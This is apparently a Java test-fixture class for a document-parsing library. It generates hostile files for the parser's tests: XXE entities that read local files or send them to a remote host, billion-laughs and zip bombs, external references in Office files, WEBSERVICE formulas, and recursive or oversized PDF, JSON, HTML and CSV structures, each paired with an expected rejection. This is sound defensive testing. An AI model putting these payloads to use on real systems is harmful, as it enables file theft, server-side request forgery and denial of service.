package dev.parlance.knowledge.parsing.process;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.security.GeneralSecurityException;
import java.util.LinkedHashMap;
import java.util.Map;

import org.apache.poi.openxml4j.exceptions.InvalidFormatException;
import org.apache.poi.openxml4j.opc.OPCPackage;
import org.apache.poi.poifs.crypt.EncryptionInfo;
import org.apache.poi.poifs.crypt.EncryptionMode;
import org.apache.poi.poifs.crypt.Encryptor;
import org.apache.poi.poifs.filesystem.POIFSFileSystem;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;

import dev.parlance.knowledge.parsing.office.OpenDocumentFiles;

/** Files made to read what is not theirs, to fetch, or to use a machine up. */
final class Hostile {

    /**
     * A file and what may come of it.
     *
     * @param outcome pattern of a code and sentence, or of the text
     */
    record File(String attack, String name, byte[] content, String outcome) {

        @Override
        public String toString() {
            return attack;
        }
    }

    private static final int MANY = 100_000;

    private final String local;

    private final String remote;

    private final Map<String, File> all = new LinkedHashMap<>();

    /**
     * @param local address of a file that is not to be read
     * @param remote address of a server that is not to be asked
     */
    Hostile(String local, String remote) {
        this.local = local;
        this.remote = remote;
    }

    Map<String, File> all() throws IOException {
        entities();
        references();
        bombs();
        documents();
        nesting();
        width();
        locked();
        return all;
    }

    private void add(String attack, String name, byte[] content, String outcome) {
        all.put(attack, new File(attack, name, content, outcome));
    }

    private void add(String attack, String name, String content, String outcome) {
        add(attack, name, content.getBytes(StandardCharsets.UTF_8), outcome);
    }

    /** In every kind that is made of markup, and in every part a library might read before us. */
    private void entities() throws IOException {
        Map<String, String> types = types();
        for (Map.Entry<String, String> type : types.entrySet()) {
            String attack = type.getKey();
            String use = "&x;";
            String start = "<?xml version=\"1.0\"?>" + type.getValue();
            add(attack + " in XML", "a.xml", start + "<root><p>words " + use + "</p></root>", ".*");
            add(attack + " in SVG", "a.svg", start + "<svg><text>words " + use + "</text></svg>", ".*");
            add(attack + " in HTML", "a.html", type.getValue() + "<html><body><p>words " + use + "</p></body></html>",
                    ".*");
            add(attack + " in Word", "a.docx", within(Honest.word(), "word/document.xml", type.getValue()), ".*");
            add(attack + " in Word styles", "a.docx",
                    within(Honest.word(), "word/_rels/document.xml.rels", type.getValue()), ".*");
            for (String part : new String[]{"xl/workbook.xml", "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml",
                    "xl/styles.xml", "[Content_Types].xml", "docProps/core.xml"}) {
                add(attack + " in Excel " + part, "a.xlsx",
                        within(Honest.workbook(new XSSFWorkbook()), part, type.getValue()), ".*");
            }
            add(attack + " in PowerPoint", "a.pptx",
                    within(Honest.slides(), "ppt/slides/slide1.xml", type.getValue()), ".*");
            for (String kind : new String[]{"text", "spreadsheet", "presentation"}) {
                add(attack + " in OpenDocument " + kind, "a.odt", within(Honest.files().get(
                        kind.equals("text") ? "a.odt" : kind.equals("spreadsheet") ? "a.ods" : "a.odp"), "content.xml",
                        type.getValue()), ".*");
            }
        }
    }

    private Map<String, String> types() {
        Map<String, String> types = new LinkedHashMap<>();
        types.put("local entity", "<!DOCTYPE root [<!ENTITY x SYSTEM \"" + local + "\">]>");
        types.put("remote entity", "<!DOCTYPE root [<!ENTITY x SYSTEM \"" + remote + "\">]>");
        types.put("remote type", "<!DOCTYPE root SYSTEM \"" + remote + "\">");
        types.put("parameter entity", "<!DOCTYPE root [<!ENTITY % p SYSTEM \"" + remote + "\"> %p;]>");
        types.put("local parameter entity", "<!DOCTYPE root [<!ENTITY % p SYSTEM \"" + local
                + "\"> <!ENTITY % q \"<!ENTITY x SYSTEM '" + remote + "?%p;'>\"> %q;]>");
        StringBuilder laughs = new StringBuilder("<!DOCTYPE root [<!ENTITY l0 \"lol lol lol\">");
        for (int level = 1; level < 12; level++) {
            laughs.append("<!ENTITY l").append(level).append(" \"").append(("&l" + (level - 1) + ";").repeat(10))
                    .append("\">");
        }
        types.put("billion laughs", laughs + "<!ENTITY x \"&l11;\">]>");
        types.put("quadratic blow-up", "<!DOCTYPE root [<!ENTITY y \"" + "lol ".repeat(MANY) + "\"><!ENTITY x \""
                + "&y;".repeat(5000) + "\">]>");
        return types;
    }

    private static byte[] within(byte[] file, String part, String type) throws IOException {
        return Packed.with(file, part, xml -> {
            String declared = xml.startsWith("<?xml") ? xml.substring(xml.indexOf("?>") + 2) : xml;
            int text = declared.indexOf("Words");
            String used = text < 0 ? declared : declared.substring(0, text) + "&x;" + declared.substring(text);
            return "<?xml version=\"1.0\"?>" + type + used;
        });
    }

    private void references() throws IOException {
        add("XInclude", "a.xml", "<root xmlns:xi=\"http://www.w3.org/2001/XInclude\"><p>words</p><xi:include href=\""
                + local + "\" parse=\"text\"/></root>", "words.*");
        add("style sheet and schema", "a.xml", "<?xml-stylesheet type=\"text/xsl\" href=\"" + remote
                + "\"?><root xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:noNamespaceSchemaLocation=\""
                + remote + "\"><p>words</p></root>", "words");
        add("page that loads others", "a.html", "<html><head><base href=\"" + remote + "\"><link rel=stylesheet href=\""
                + remote + "\"><script src=\"" + remote + "\"></script></head><body><iframe src=\"" + local
                + "\"></iframe><img src=\"" + remote + "\"><object data=\"" + local
                + "\"></object><p>words</body></html>",
                "words");
        String external = "<Relationship Id=\"rIdX\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/";
        String target = "\" Target=\"" + remote + "\" TargetMode=\"External\"/></Relationships>";
        for (String type : new String[]{"attachedTemplate", "image", "subDocument", "styles", "header", "footnotes"}) {
            add("external " + type + " in Word", "a.docx", Packed.with(Honest.word(), "word/_rels/document.xml.rels",
                    xml -> related(xml, external + type + target)), "(?s).*Words in a document.*");
        }
        add("external slide parts", "a.pptx", Packed.with(Honest.slides(), "ppt/slides/_rels/slide1.xml.rels",
                xml -> related(xml, external + "image" + target)), "(?s).*Words on a slide.*");
        add("external workbook", "a.xlsx", Packed.with(Honest.workbook(new XSSFWorkbook()),
                "xl/_rels/workbook.xml.rels", xml -> related(xml, external + "externalLink" + target)), "(?s).*Pen.*");
        add("local part outside", "a.docx", Packed.with(Honest.word(), "word/_rels/document.xml.rels",
                xml -> related(xml, external + "styles\" Target=\"" + local + "\"/></Relationships>")),
                "(?s).*Words in a document.*");
        add("formulas", "a.xlsx", formulas(), "(?s).*=WEBSERVICE.*");
        add("message with a body elsewhere", "a.eml",
                "Subject: words\nContent-Type: message/external-body; access-type=URL; URL=\""
                        + remote + "\"\n\nContent-Type: text/plain\n\n",
                ".*");
        add("PDF stream elsewhere", "a.pdf",
                pdf("4 0 obj <</Length 0 /F (" + local.substring(5) + ")>> stream\nendstream endobj ",
                        "/Kids [3 0 R] /Count 1"),
                ".*");
    }

    private static String related(String xml, String relation) {
        return xml.contains("</Relationships>")
                ? xml.replace("</Relationships>", relation)
                : "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">" + relation;
    }

    private byte[] formulas() throws IOException {
        try (XSSFWorkbook workbook = new XSSFWorkbook()) {
            Row row = workbook.createSheet("F").createRow(0);
            row.createCell(0).setCellValue("Item");
            row.createCell(1).setCellFormula("HYPERLINK(\"" + remote + "\",\"click\")");
            Row next = row.getSheet().createRow(1);
            next.createCell(0).setCellValue("Pen");
            next.createCell(1).setCellFormula("SUM(1,2)");
            row.getSheet().createRow(1_048_575).createCell(16_383).setCellValue("far away");
            ByteArrayOutputStream bytes = new ByteArrayOutputStream();
            workbook.write(bytes);
            return Packed.with(bytes.toByteArray(), "xl/worksheets/sheet1.xml",
                    xml -> xml.replace("SUM(1,2)", "WEBSERVICE(\"" + remote + "\")"));
        }
    }

    private void bombs() throws IOException {
        for (String part : new String[]{"word/document.xml", "xl/sharedStrings.xml", "content.xml"}) {
            add("10 GB of zeros in " + part, "a.docx", Packed.zeros(part, 10_000), "too_large: .*");
        }
        byte[] inner = Packed.zeros("a.docx", 100);
        Map<String, String> nested = new LinkedHashMap<>();
        nested.put("inner.zip", new String(inner, StandardCharsets.ISO_8859_1));
        add("archive in an archive", "a.docx", Packed.of(nested), "unsupported_kind: .*");
        Map<String, String> many = new LinkedHashMap<>();
        for (int at = 0; at < 30_000; at++) {
            many.put("word/" + at, "");
        }
        add("30,000 parts", "a.docx", Packed.of(many), "too_large: .*");
        add("picture of 100,000 by 100,000 points", "a.png", picture(), "no_text: .*");
        byte[] slides = Packed.with(Honest.slides(), "[Content_Types].xml",
                xml -> xml.replace("<Default ", "<Default Extension=\"png\" ContentType=\"image/png\"/><Default "));
        add("slide with such a picture", "a.pptx", Packed.with(slides, "ppt/media/image1.png",
                xml -> new String(picture(), StandardCharsets.ISO_8859_1)), "(?s).*Words on a slide.*");
    }

    private static byte[] picture() {
        byte[] head = "\u0089PNG\r\n\u001a\n\0\0\0\rIHDR\0\1\u0086\u00a0\0\1\u0086\u00a0\b\2\0\0\0"
                .getBytes(StandardCharsets.ISO_8859_1);
        return java.util.Arrays.copyOf(head, 1000);
    }

    private void documents() {
        add("page tree that holds itself", "a.pdf", pdf("", "/Kids [2 0 R] /Count 1"), ".*");
        add("page that is its own parent's parent", "a.pdf", pdf("", "/Kids [3 0 R 2 0 R 3 0 R] /Count 3"), ".*");
        add("count that lies high", "a.pdf", pdf("", "/Kids [3 0 R] /Count 1000000"), ".*");
        add("count that lies low", "a.pdf", pdf("", "/Kids [3 0 R] /Count -5"), ".*");
        add("a million pages", "a.pdf", pdf("", "/Kids [" + "3 0 R ".repeat(1_000_000) + "] /Count 1000000"),
                "too_large: .*pages.*");
        StringBuilder pages = new StringBuilder();
        StringBuilder kids = new StringBuilder();
        for (int at = 10; at < 20_010; at++) {
            pages.append(at).append(" 0 obj <</Type/Page/Parent 2 0 R>> endobj ");
            kids.append(at).append(" 0 R ");
        }
        add("20,000 empty pages", "a.pdf", pdf(pages.toString(), "/Kids [" + kids + "] /Count 20000"),
                "too_large: .*pages.*");
        add("form that draws itself", "a.pdf", pdf("4 0 obj <</Length 5>> stream\n/F Do\nendstream endobj "
                + "5 0 obj <</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</F 5 0 R/G 5 0 R>>>>/Length 11>> "
                + "stream\n/F Do /G Do\nendstream endobj ", "/Kids [3 0 R] /Count 1"), ".*");
        add("length that is its own", "a.pdf",
                pdf("4 0 obj <</Length 4 0 R>> stream\nBT (words) Tj ET\nendstream endobj ",
                        "/Kids [3 0 R] /Count 1"),
                ".*");
        add("filter upon filter", "a.pdf", pdf("4 0 obj <</Length 3 /Filter [" + "/FlateDecode ".repeat(10_000)
                + "]>> stream\nxxx\nendstream endobj ", "/Kids [3 0 R] /Count 1"), ".*");
        add("array within array", "a.pdf", pdf("4 0 obj " + "[".repeat(MANY) + "]".repeat(MANY) + " endobj ",
                "/Kids [3 0 R] /Count 1"), ".*");
        add("operand within operand", "a.pdf", pdf("4 0 obj <</Length " + 2 * MANY + ">> stream\n" + "[".repeat(MANY)
                + "]".repeat(MANY) + "\nendstream endobj ", "/Kids [3 0 R] /Count 1"), ".*");
        add("picture of a billion points", "a.pdf", pdf("4 0 obj <</Length 5>> stream\n/F Do\nendstream endobj "
                + "5 0 obj <</Type/XObject/Subtype/Image/Width 100000/Height 100000/ColorSpace/DeviceRGB/BitsPerComponent 8"
                + "/Length 1>> stream\nx\nendstream endobj ", "/Kids [3 0 R] /Count 1"), "no_text: .*");
    }

    private static byte[] pdf(String objects, String pages) {
        String file = "%PDF-1.4\n1 0 obj <</Type/Catalog/Pages 2 0 R>> endobj\n2 0 obj <</Type/Pages " + pages
                + ">> endobj\n3 0 obj <</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R/Resources<</XObject"
                + "<</F 5 0 R>>>>>> endobj\n" + objects + "\ntrailer <</Root 1 0 R>>\n%%EOF\n";
        return file.getBytes(StandardCharsets.ISO_8859_1);
    }

    private void nesting() throws IOException {
        add("JSON in JSON", "a.json", "[".repeat(MANY) + "]".repeat(MANY), "too_large: .*nested.*");
        add("object in object", "a.json", "{\"a\":".repeat(MANY) + "1" + "}".repeat(MANY), "too_large: .*nested.*");
        add("XML in XML", "a.xml", "<a>".repeat(MANY) + "words" + "</a>".repeat(MANY), "too_large: .*nested.*");
        add("box in box", "a.html", "<html><body>" + "<div>".repeat(MANY) + "words", ".*");
        add("table in table", "a.html", "<html><body>" + "<table><tr><td>".repeat(5_000) + "words", ".*");
        add("bold in bold", "a.html", "<html><body>" + "<b><i><a href=x>".repeat(3_000) + "words<p>more", ".*");
        add("group in group", "a.rtf", "{\\rtf1 " + "{".repeat(MANY) + "words" + "}".repeat(MANY) + "}", ".*");
        add("paragraph in paragraph", "a.docx", Packed.with(Honest.word(), "word/document.xml",
                xml -> xml.replace("<w:body>", "<w:body>" + "<w:p><w:r>".repeat(MANY))), ".*");
        add("span in span", "a.odt", OpenDocumentFiles.file("text", "<text:p>" + "<text:span>".repeat(MANY) + "words"
                + "</text:span>".repeat(MANY) + "</text:p>"), ".*");
        add("part in part", "a.eml",
                "Subject: words\n" + "Content-Type: multipart/mixed; boundary=b\n\n--b\n".repeat(5_000),
                ".*");
    }

    private void width() throws IOException {
        add("one line of 50 MB", "a.csv", "word,".repeat(10_000_000), "too_(?:large|complex): .*");
        add("one cell of 50 MB", "a.csv", "name\n\"" + "word ".repeat(10_000_000) + "\"\n", "too_large: .*");
        add("a million columns", "a.csv", "a,".repeat(1_000_000) + "\n" + "1,".repeat(1_000_000),
                "too_large: .*columns.*");
        add("quotes that never end", "a.csv", "a,\"b\n".repeat(2_000_000), ".*");
        add("a column for each object", "a.json", columns(), "too_large: .*columns.*");
        add("title without end", "a.html", "<html><head><title>" + "word ".repeat(200_000) + "</title></head><body><h1>"
                + "word ".repeat(200_000) + "</h1><p>words</p></body></html>", ".*");
        add("name without end", "a.csv", "word ".repeat(200_000) + ",b\n" + "1,2\n".repeat(100_000), ".*");
        add("spans without end", "a.html", "<html><body><table>"
                + "<tr><td colspan=1000 rowspan=65534>a<td>b".repeat(2_000) + "</table>", ".*");
        add("60 MB of words", "a.txt", "word word. ".repeat(5_500_000), "too_large: .*");
        add("60 MB of dots", "a.txt", ".".repeat(60_000_000), ".*");
        add("marks without end", "a.md", "**a __b _c [d](e ".repeat(5_000), ".*");
        add("remarks without end", "a.txt", "<!-- -->".repeat(2_000) + "words", ".*");
        add("blanks without end", "a.md", "# " + " ".repeat(1_000_000) + "words", ".*");
    }

    private static String columns() {
        StringBuilder json = new StringBuilder("[");
        for (int at = 0; at < 5_000; at++) {
            json.append(at == 0 ? "" : ",").append("{\"k").append(at).append("\":\"v").append(at).append("\"}");
        }
        return json.append("]").toString();
    }

    private void locked() throws IOException {
        add("locked Word", "a.docx", locked(Honest.word()), "encrypted: .*");
        add("locked Excel", "a.xlsx", locked(Honest.workbook(new XSSFWorkbook())), "encrypted: .*");
        add("locked PowerPoint", "a.pptx", locked(Honest.slides()), "encrypted: .*");
    }

    private static byte[] locked(byte[] file) throws IOException {
        try (POIFSFileSystem container = new POIFSFileSystem();
                OPCPackage plain = OPCPackage.open(new ByteArrayInputStream(file))) {
            Encryptor encryptor = new EncryptionInfo(EncryptionMode.agile).getEncryptor();
            encryptor.confirmPassword("secret");
            try (java.io.OutputStream out = encryptor.getDataStream(container)) {
                plain.save(out);
            }
            ByteArrayOutputStream bytes = new ByteArrayOutputStream();
            container.writeFilesystem(bytes);
            return bytes.toByteArray();
        } catch (GeneralSecurityException | InvalidFormatException failure) {
            throw new IOException(failure);
        }
    }
}
